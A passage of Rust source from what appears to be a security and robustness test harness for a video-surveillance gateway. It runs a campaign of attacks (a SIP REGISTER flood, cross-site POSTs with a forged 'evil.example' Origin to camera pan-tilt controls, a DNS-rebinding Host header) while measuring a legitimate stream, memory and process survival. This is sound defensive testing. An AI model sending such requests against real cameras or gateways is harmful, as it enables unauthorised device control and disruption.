                *codes.entry(code).or_default() += 1;
            } else {
                out.saw("request from the gateway");
            }
        }
        if i % 100 == 99 {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    }
    let deadline = tokio::time::Instant::now() + Duration::from_secs(2);
    while let Ok(Ok((len, _))) = tokio::time::timeout_at(deadline, c.sock.recv_from(&mut buf)).await {
        let text = String::from_utf8_lossy(&buf[..len]);
        if let Some(code) = text.strip_prefix("SIP/2.0 ").and_then(|s| s.get(..3)).and_then(|s| s.parse().ok()) {
            *codes.entry(code).or_default() += 1;
        } else {
            out.saw("request from the gateway");
        }
    }
    for (code, n) in codes {
        out.observed.insert(format!("REGISTER answered {code}"), n);
    }
    Ok(())
}

// ---------------------------------------------------------------------------------------------
// HTTP API

async fn http_raw(t: &AttackTarget, request: String) -> std::io::Result<u16> {
    let api = t.api.ok_or_else(|| missing("API"))?;
    let mut s = tcp_from(t.attacker_ip, api).await?;
    s.write_all(request.as_bytes()).await?;
    let (answer, _) = read_for(&mut s, Duration::from_secs(3), 64 * 1024).await;
    let text = String::from_utf8_lossy(&answer);
    Ok(text.split_whitespace().nth(1).and_then(|c| c.parse().ok()).unwrap_or(0))
}

async fn api_cross_site(t: &AttackTarget, out: &mut AttackOutcome) -> AttackResult {
    let api = t.api.ok_or_else(|| missing("API"))?;
    let device = t.victim_device.clone().unwrap_or_else(|| "34020000001320000001".to_string());
    let body = r#"{"action":"left","speed":64}"#;
    let ptz = format!("/api/v1/devices/{device}/channels/{device}/ptz");
    let cases = [
        (
            "cross-site POST text/plain",
            format!(
                "POST {ptz} HTTP/1.1\r\nHost: {api}\r\nOrigin: http://evil.example\r\nContent-Type: text/plain\r\n\
                 Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            ),
        ),
        (
            "cross-site POST JSON",
            format!(
                "POST {ptz} HTTP/1.1\r\nHost: {api}\r\nOrigin: http://evil.example\r\nContent-Type: application/json\r\n\
                 Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            ),
        ),
        ("rebinding Host", "GET /api/v1/devices HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n".to_string()),
    ];
    for (what, request) in cases {
        out.sent += 1;
        match http_raw(t, request).await {
            Ok(code) => out.saw(format!("{what}: {code}")),
            Err(e) => out.saw(format!("{what}: {e}")),
        }
    }
    Ok(())
}

/// Resident memory (kB) and open file descriptors of process `pid` (Linux `/proc`).
pub fn process_usage(pid: u32) -> Option<(u64, usize)> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let rss = status.lines().find_map(|l| l.strip_prefix("VmRSS:"))?.split_whitespace().next()?.parse().ok()?;
    let fds = std::fs::read_dir(format!("/proc/{pid}/fd")).ok()?.count();
    Some((rss, fds))
}

/// A legitimate camera (UDP, real time, from `camera_ip`) and an RTSP player of its stream, run
/// around the attacks.
#[derive(Debug, Clone)]
pub struct CampaignOptions {
    pub attacks: Vec<Attack>,
    pub camera_ip: IpAddr,
    /// How long the legitimate player plays; the attacks run inside this window.
    pub play_for: Duration,
    /// The gateway's process, for RSS and file descriptors (`/proc/<pid>`).
    pub pid: Option<u32>,
    /// How long after the attacks to wait before the last RSS/fd reading.
    pub settle: Duration,
}

/// What the legitimate player saw.
#[derive(Debug, Clone, Default, Serialize)]
pub struct LegitReport {
    pub camera_packets: u64,
    /// Frames the camera sent while the player played (25 fps pattern).
    pub frames_expected: u64,
    pub video_frames: u64,
    pub video_seq_gaps: u64,
    /// From PLAY to the player's first video packet.
    pub first_video_ms: Option<u64>,
    pub closed_early: bool,
    pub player_error: Option<String>,
}

#[derive(Debug, Clone, Serialize)]
pub struct CampaignReport {
    pub outcomes: Vec<AttackOutcome>,
    pub legit: LegitReport,
    /// (RSS kB, open fds) before the attacks, right after them, and after `settle`.
    pub usage_before: Option<(u64, usize)>,
    pub usage_after: Option<(u64, usize)>,
    pub usage_settled: Option<(u64, usize)>,
    /// Whether the gateway process still ran at the end.
    pub alive: bool,
    /// The attack after which the gateway process was gone (the campaign stops there).
    pub died_after: Option<Attack>,
}

/// Whether process `pid` runs (a zombie, exited but not yet reaped, does not).
pub fn process_alive(pid: u32) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .ok()
        .and_then(|s| s.rsplit_once(')').and_then(|(_, rest)| rest.trim_start().chars().next()))
        .is_some_and(|state| state != 'Z' && state != 'X')
}

/// The frame rate of the synthetic pattern the legitimate camera sends.
const PATTERN_FPS: u64 = 25;

/// Streams the synthetic pattern with `ssrc` in real time until `stop`; returns packets sent.
async fn legit_camera(from: IpAddr, to: SocketAddr, ssrc: u32, stop: tokio_util::sync::CancellationToken) -> u64 {
    let Ok(sock) = udp_from(from).await else { return 0 };
    let template = crate::sim::pattern::rtp_packets(1);
    let (mut seq, mut sent) = (0u16, 0u64);
    let start = tokio::time::Instant::now();
    let frame = Duration::from_micros(1_000_000 / PATTERN_FPS);
    for pass in 0u32.. {
        let mut i = 0;
        while i < template.len() {
            let ts = template[i].0;
            let due = start + frame * (pass * PATTERN_FPS as u32 + ts / (90_000 / PATTERN_FPS as u32));
            tokio::select! {
                _ = stop.cancelled() => return sent,
                _ = tokio::time::sleep_until(due) => {}
            }
            // Every packet of this frame at once.
            while i < template.len() && template[i].0 == ts {
                let mut p = template[i].1.to_vec();
                p[2..4].copy_from_slice(&seq.to_be_bytes());
                let out_ts = ts.wrapping_add(pass.wrapping_mul(90_000));
                p[4..8].copy_from_slice(&out_ts.to_be_bytes());
                p[8..12].copy_from_slice(&ssrc.to_be_bytes());
                let _ = sock.send_to(&p, to).await;
                seq = seq.wrapping_add(1);
                sent += 1;
                i += 1;
            }
        }
    }
    sent
}

/// Runs the attacks one after the other while a legitimate camera streams and a player plays.
pub async fn campaign(t: &AttackTarget, opts: &CampaignOptions) -> CampaignReport {
    let stop = tokio_util::sync::CancellationToken::new();
    let camera = tokio::spawn(legit_camera(opts.camera_ip, t.rtp, t.victim_ssrc, stop.clone()));
    let name = rtp_stream_name(t.victim_ssrc);
    let mut legit = LegitReport::default();
    // The player starts once the stream is live (DESCRIBE answers), within 10 s.
    let player = match t.rtsp {
        Some(rtsp) => {
            let url = format!("rtsp://{rtsp}/{name}");
            let deadline = Instant::now() + Duration::from_secs(10);
            while Instant::now() < deadline && !describe_ok(rtsp, &url).await {
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
            let opts = crate::sim::players::PlayersOptions { url, count: 1, duration: opts.play_for, stall: 0 };
            Some(tokio::spawn(async move { crate::sim::players::run_players(&opts).await }))
        }
        None => None,
    };
    let played_from = Instant::now();
    let usage_before = opts.pid.and_then(process_usage);
    let mut outcomes = Vec::new();
    let mut died_after = None;
    for attack in &opts.attacks {
        outcomes.push(run(*attack, t).await);
        if opts.pid.is_some_and(|pid| !process_alive(pid)) {
            died_after = Some(*attack);
            break;
        }
    }
    let usage_after = opts.pid.and_then(process_usage);
    if let Some(player) = player {
        match player.await {
            Ok(Ok(report)) => {
                let p = report.players.into_iter().next().unwrap_or_default();
                legit.video_frames = p.video_frames;
                legit.video_seq_gaps = p.video_seq_gaps;
                legit.first_video_ms = p.first_video.map(|d| d.as_millis() as u64);
                legit.closed_early = p.closed_early;
                legit.player_error = p.error;
            }
            Ok(Err(e)) => legit.player_error = Some(e.to_string()),
            Err(e) => legit.player_error = Some(e.to_string()),
        }
        legit.frames_expected = played_from.elapsed().min(opts.play_for).as_millis() as u64 * PATTERN_FPS / 1000;
    }
    stop.cancel();
    legit.camera_packets = camera.await.unwrap_or(0);
    tokio::time::sleep(opts.settle).await;
    let usage_settled = opts.pid.and_then(process_usage);
    let alive = opts.pid.is_none_or(process_alive);
    CampaignReport { outcomes, legit, usage_before, usage_after, usage_settled, alive, died_after }
}

/// Whether an RTSP DESCRIBE of `url` is answered 200.
async fn describe_ok(rtsp: SocketAddr, url: &str) -> bool {
    let Ok(Ok(mut s)) = tokio::time::timeout(Duration::from_secs(2), TcpStream::connect(rtsp)).await else {
        return false;
    };
    let req = format!("DESCRIBE {url} RTSP/1.0\r\nCSeq: 1\r\nAccept: application/sdp\r\n\r\n");
    if s.write_all(req.as_bytes()).await.is_err() {
        return false;
    }
    let deadline = tokio::time::Instant::now() + Duration::from_secs(2);
    let mut answer = Vec::new();
    let mut chunk = [0u8; 2048];
    while memchr::memmem::find(&answer, b"\r\n\r\n").is_none() && answer.len() < 8192 {
        match tokio::time::timeout_at(deadline, s.read(&mut chunk)).await {
            Ok(Ok(n)) if n > 0 => answer.extend_from_slice(&chunk[..n]),
            _ => break,
        }
    }
    answer.starts_with(b"RTSP/1.0 200")
}
